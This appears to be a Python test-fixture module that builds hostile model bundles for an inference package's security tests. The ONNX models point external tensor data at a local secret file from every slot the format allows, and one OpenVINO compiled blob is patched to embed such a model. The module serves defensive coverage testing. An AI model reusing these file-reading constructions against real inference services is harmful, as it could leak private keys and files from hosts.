"""Hostile bundles for the engine-boundary tests (SECURITY.md, "The engine boundary"): each one passes every check
of the format (digests, layout, manifest) and tries to make an engine read a file, or steer the host.

The secret is four float32 values written to a file in the working directory; a bundle that reads it returns it as
its output y (x is zeros), which is how the original exploit leaked a private key through xrt-run.
"""

from __future__ import annotations

import numpy as np
import xrtpkg
from onnx import TensorProto, helper, numpy_helper

SECRET = np.array([101.0, 202.0, 303.0, 404.0], np.float32)
SECRET_FILE = "secret.bin"  # relative: external data resolves against the current directory


def external(name: str, location: str = SECRET_FILE, shape=(4,)) -> TensorProto:
    """A float32 tensor whose bytes live in `location` (ONNX external data)."""
    t = numpy_helper.from_array(np.zeros(shape, np.float32), name)
    t.ClearField("raw_data")
    t.data_location = TensorProto.EXTERNAL
    for key, value in [("location", location), ("offset", "0"), ("length", str(4 * int(np.prod(shape))))]:
        entry = t.external_data.add()
        entry.key, entry.value = key, value
    return t


def sparse_external(name: str) -> "onnx.SparseTensorProto":  # noqa: F821
    values = external(name)  # a sparse tensor is named by its values
    indices = numpy_helper.from_array(np.arange(4, dtype=np.int64), name + "_indices")
    return helper.make_sparse_tensor(values, indices, [4])


X = helper.make_tensor_value_info("x", TensorProto.FLOAT, [4])
Y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])
OPSET = [helper.make_opsetid("", 17)]


def _model(nodes, initializers=(), sparse=(), functions=(), opset=OPSET) -> bytes:
    graph = helper.make_graph(nodes, "g", [X], [Y], list(initializers), sparse_initializer=list(sparse))
    model = helper.make_model(graph, opset_imports=list(opset), functions=list(functions))
    model.ir_version = 8
    return model.SerializeToString()


def _true() -> "onnx.NodeProto":  # noqa: F821
    return helper.make_node("Constant", [], ["cond"], value=numpy_helper.from_array(np.array(True), "t"))


def _branch(name: str, nodes, out: str, sparse=(), initializers=()) -> "onnx.GraphProto":  # noqa: F821
    return helper.make_graph(nodes, name, [], [helper.make_tensor_value_info(out, TensorProto.FLOAT, [4])],
                             list(initializers), sparse_initializer=list(sparse))


def onnx_models() -> dict[str, bytes]:
    """ONNX models that read SECRET_FILE into y, one per place the ONNX format can hold a tensor that an engine
    may load: the external-data guard must find every one."""
    plain = numpy_helper.from_array(np.zeros(4, np.float32), "zero")
    models = {
        "initializer": _model([helper.make_node("Add", ["x", "w"], ["y"])], initializers=[external("w")]),
        "sparse_initializer": _model([helper.make_node("Add", ["x", "w"], ["y"])],
                                     sparse=[sparse_external("w")]),
        "constant_value": _model([helper.make_node("Constant", [], ["w"], value=external("w")),
                                  helper.make_node("Add", ["x", "w"], ["y"])]),
        "constant_sparse_value": _model([helper.make_node("Constant", [], ["w"], sparse_value=sparse_external("w")),
                                         helper.make_node("Add", ["x", "w"], ["y"])]),
    }
    # A sparse initializer inside an If branch.
    then_g = _branch("then", [helper.make_node("Identity", ["w"], ["o"])], "o", sparse=[sparse_external("w")])
    else_g = _branch("else", [helper.make_node("Identity", ["zero"], ["o2"])], "o2", initializers=[plain])
    models["if_sparse_initializer"] = _model([_true(), helper.make_node("If", ["cond"], ["w"], then_branch=then_g,
                                                                        else_branch=else_g),
                                              helper.make_node("Add", ["x", "w"], ["y"])])
    # A Constant sparse_value in a Loop body (one iteration), inside an If branch: depth 2.
    body = helper.make_graph(
        [helper.make_node("Identity", ["c_in"], ["c_out"]),
         helper.make_node("Constant", [], ["s"], sparse_value=sparse_external("s")),
         helper.make_node("Add", ["v_in", "s"], ["v_out"])],
        "body",
        [helper.make_tensor_value_info("i", TensorProto.INT64, []),
         helper.make_tensor_value_info("c_in", TensorProto.BOOL, []),
         helper.make_tensor_value_info("v_in", TensorProto.FLOAT, [4])],
        [helper.make_tensor_value_info("c_out", TensorProto.BOOL, []),
         helper.make_tensor_value_info("v_out", TensorProto.FLOAT, [4])])
    trips = numpy_helper.from_array(np.array(1, np.int64), "trips")
    then_loop = _branch("then", [helper.make_node("Loop", ["trips", "cond_in", "zero"], ["o"], body=body)], "o",
                        initializers=[trips, plain, numpy_helper.from_array(np.array(True), "cond_in")])
    models["loop_in_if_constant_sparse_value"] = _model(
        [_true(), helper.make_node("If", ["cond"], ["w"], then_branch=then_loop, else_branch=else_g),
         helper.make_node("Add", ["x", "w"], ["y"])])
    # A model-local function whose body holds the external Constant.
    fn = helper.make_function("xrt.test", "Leak", ["a"], ["b"],
                              [helper.make_node("Constant", [], ["k"], value=external("k")),
                               helper.make_node("Add", ["a", "k"], ["b"])], OPSET)
    models["function_constant"] = _model([helper.make_node("Leak", ["x"], ["y"], domain="xrt.test")],
                                         functions=[fn], opset=OPSET + [helper.make_opsetid("xrt.test", 1)])
    return models


def onnx_holding_everywhere() -> tuple[bytes, int]:
    """One model with an external tensor in every slot the ONNX format has (for the walker's coverage, not to
    run): returns (bytes, how many external tensors it holds)."""
    import onnx

    count = 0

    def ext(name):
        nonlocal count
        count += 1
        return external(name)

    def sp(name):
        nonlocal count
        count += 1  # the values are external; the indices are inline
        return sparse_external(name)

    def attrs_node(name):
        node = helper.make_node("Custom", [], [name], domain="xrt.test")
        node.attribute.extend([helper.make_attribute("t", ext(name + "_t")),
                               helper.make_attribute("ts", [ext(name + "_t1"), ext(name + "_t2")]),
                               helper.make_attribute("st", sp(name + "_st")),
                               helper.make_attribute("sts", [sp(name + "_st1")])])
        return node

    inner = helper.make_graph([attrs_node("inner")], "inner", [], [], [ext("inner_init")],
                              sparse_initializer=[sp("inner_sparse")])
    deeper = helper.make_graph([helper.make_node("If", [], [], then_branch=inner, else_branch=inner)], "deeper", [],
                               [])
    count += 7  # inner appears twice: its 7 external tensors are found twice
    top = attrs_node("top")
    top.attribute.extend([helper.make_attribute("g", deeper), helper.make_attribute("gs", [inner])])
    count += 7  # inner once more, through the graphs list
    graph = helper.make_graph([top], "g", [X], [Y], [ext("init")], sparse_initializer=[sp("sparse")])
    fn = helper.make_function("xrt.test", "F", [], [], [attrs_node("fn")], OPSET)
    default = helper.make_attribute("dflt", ext("fn_default"))
    fn.attribute_proto.extend([default])
    model = helper.make_model(graph, opset_imports=OPSET, functions=[fn])
    training = model.training_info.add()
    training.initialization.CopyFrom(helper.make_graph([], "init", [], [], [ext("train_init")]))
    training.algorithm.CopyFrom(helper.make_graph([], "algo", [], [], [ext("train_algo")]))
    return model.SerializeToString(), count


def manifest(variants: list[dict]) -> dict:
    return {"format": {"name": "xrtpkg", "version": "1.0"},
            "model": {"name": "hostile", "inputs": [{"name": "x", "dtype": "float32", "shape": [4]}],
                      "outputs": [{"name": "y", "dtype": "float32", "shape": [4]}]},
            "variants": variants}


def variant(engine: str, artifacts: dict, options: dict | None = None) -> dict:
    return {"id": f"cpu-{engine}", "target": "cpu", "device": "cpu", "engine": engine, "precision": "fp32",
            "artifacts": artifacts, "options": options or {}, "why": "hostile test bundle"}


def ort_bundle(model: bytes, options: dict | None = None) -> bytes:
    return xrtpkg.to_bytes(manifest([variant("onnxruntime", {"model": "m.onnx"}, options)]),
                           [("m.onnx", model, False)])


def ov_bundle(model: bytes, weights: bytes = b"", options: dict | None = None) -> bytes:
    """An openvino variant whose `model` artifact is `model` (IR XML, or anything else)."""
    artifacts, payloads = {"model": "m.xml"}, [("m.xml", model, False)]
    if weights:
        artifacts["weights"] = "m.bin"
        payloads.append(("m.bin", weights, False))
    return xrtpkg.to_bytes(manifest([variant("openvino", artifacts, options)]), payloads)


def ir_add(constant: np.ndarray) -> tuple[bytes, bytes]:
    """OpenVINO IR (xml, bin) of y = x + constant, x: float32[4]."""
    import tempfile
    from pathlib import Path

    import openvino as ov
    import openvino.opset13 as ops

    x = ops.parameter([4], np.float32, name="x")
    y = ops.add(x, ops.constant(constant.astype(np.float32)))
    y.output(0).set_names({"y"})
    model = ov.Model([y], [x], "add")
    with tempfile.TemporaryDirectory() as tmp:
        xml = Path(tmp) / "m.xml"
        ov.save_model(model, str(xml), compress_to_fp16=False)
        return xml.read_bytes(), xml.with_suffix(".bin").read_bytes()


def ov_blob_bundles() -> tuple[bytes, bytes]:
    """(good, evil): an openvino variant with a precompiled CPU blob valid on this machine, and the same with ONNX
    bytes (reading SECRET_FILE) in place of the IR the blob embeds. OpenVINO's CPU plugin reads the embedded model
    back with format detection on import, so the plugin only imports a blob whose embedded model is IR."""
    import io
    import struct

    import openvino as ov

    key = bytes([0x30, 0x60, 0x70, 0x02, 0x04, 0x08, 0x3F, 0x6F, 0x72, 0x74, 0x78, 0x7F])  # OpenVINO's XOR codec

    def xor(b):
        return bytes(c ^ key[i % len(key)] for i, c in enumerate(b))

    xml, weights = ir_add(np.ones(4, np.float32))
    core = ov.Core()
    compiled = core.compile_model(core.read_model(xml, ov.Tensor(np.frombuffer(weights, np.uint8))), "CPU",
                                  {"INFERENCE_PRECISION_HINT": "f32"})
    buf = io.BytesIO()
    compiled.export_model(buf)
    blob = buf.getvalue()
    base = 20 + struct.unpack_from("<Q", blob, 12)[0]
    model_offset = struct.unpack_from("<Q", blob, base + 32)[0]
    header = bytearray(blob[: base + model_offset])
    leak = onnx_models()["initializer"]
    struct.pack_into("<Q", header, base + 40, len(leak))
    evil = bytes(header) + xor(leak)
    options = {"INFERENCE_PRECISION_HINT": "f32", "xrt.compiled_device": "CPU", "xrt.compiled_build": ov.get_version(),
               "xrt.compiled_capabilities": " ".join(core.get_property("CPU", "OPTIMIZATION_CAPABILITIES"))}
    m = manifest([variant("openvino", {"model": "m.xml", "weights": "m.bin", "compiled": "m.blob"}, options)])
    return tuple(xrtpkg.to_bytes(m, [("m.xml", xml, False), ("m.bin", weights, False), ("m.blob", b, False)])
                 for b in (blob, evil))
